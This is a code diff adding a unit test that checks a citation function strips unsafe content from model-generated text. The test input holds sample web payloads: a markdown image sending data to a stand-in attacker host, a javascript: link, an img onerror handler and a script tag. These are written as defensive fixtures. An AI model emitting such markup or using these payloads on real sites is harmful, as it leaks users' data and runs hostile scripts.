@@ -26,6 +26,11 @@ describe("checking a model's citations", () => {
     assert.equal(checkCitations("The events were:\n- A claim [9]", 2).text, "");
   });
 
+  it("sanitises each sentence it keeps: no images, no raw HTML, no links but http(s)", () => {
+    const model = 'Held in Vienna ![p](https://attacker.example/?d=1) [1]. See [the page](javascript:alert(1)) [1]. Also <img src=x onerror="alert(1)"><script>alert(2)</script>here [1]. And [site](https://www.unodc.org/) [1].';
+    assert.equal(checkCitations(model, 1).text, "Held in Vienna [1]. See the page [1]. Also here [1]. And [site](https://www.unodc.org/) [1].");
+  });
+
   it("reports no citation when none is valid", () => {
     assert.deepEqual(checkCitations("Nothing cited [9].", 2).cited, []);
   });
